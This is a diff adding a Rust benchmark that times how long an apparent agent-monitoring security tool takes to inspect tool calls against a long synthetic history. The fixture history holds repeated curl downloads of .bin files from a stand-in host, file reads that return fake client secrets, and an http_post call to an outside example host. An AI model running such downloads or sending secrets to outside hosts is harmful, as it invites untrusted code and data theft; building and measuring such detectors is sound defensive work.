@@ -1,0 +1,71 @@
+//! Prints how long one inspection takes with a full history; run with `--profile guest`.
+
+#[path = "../tests/story/mod.rs"]
+mod story;
+
+use std::time::Instant;
+
+use clawdefender_sdk::{Kind, Role};
+use story::{Story, text};
+
+fn main() {
+    let mut story = Story::begin();
+    for number in 0..250_u32 {
+        let (name, rest) = (
+            number.wrapping_mul(2_654_435_761),
+            number.wrapping_mul(40_503) + 7,
+        );
+        story.call(
+            "sh",
+            "run_command",
+            &[(
+                "command",
+                &format!("curl -o f{number}.bin https://x.example/f{number}.bin"),
+            )],
+        );
+        story.result(
+            "files",
+            "read_file",
+            &format!("client_secret = q8Zr{name:08x}V0bX{rest:08x}sKd9"),
+        );
+    }
+    let body = "the build is green and 214 tests passed in 12 seconds\n".repeat(19);
+    for (label, tool, url) in [
+        ("send, 1 KB", "http_post", "https://in.example/c"),
+        ("read a file, 1 KB", "read_file", "/p/a.md"),
+    ] {
+        let texts = vec![
+            text("/params/arguments/url", Role::Argument, url),
+            text("/params/arguments/body", Role::Argument, &body),
+        ];
+        let event = story.event(Kind::ToolCall, "web", tool, texts);
+        time(&story, label, &event);
+    }
+    for (label, size) in [
+        ("result, 1 KB", 1),
+        ("result, 10 KB", 10),
+        ("result, 100 KB", 100),
+    ] {
+        let texts = vec![text(
+            "/result/content/0/text",
+            Role::Content,
+            &body.repeat(size),
+        )];
+        let event = story.event(Kind::ToolResult, "files", "read_file", texts);
+        time(&story, label, &event);
+    }
+}
+
+fn time(story: &Story, label: &str, event: &clawdefender_sdk::Event) {
+    const ROUNDS: u32 = 200;
+    story.look(event);
+    let begun = Instant::now();
+    for _ in 0..ROUNDS {
+        std::hint::black_box(story.look(std::hint::black_box(event)));
+    }
+    println!(
+        "{label}, {} steps: {:?}",
+        story.recent.len(),
+        begun.elapsed() / ROUNDS
+    );
+}
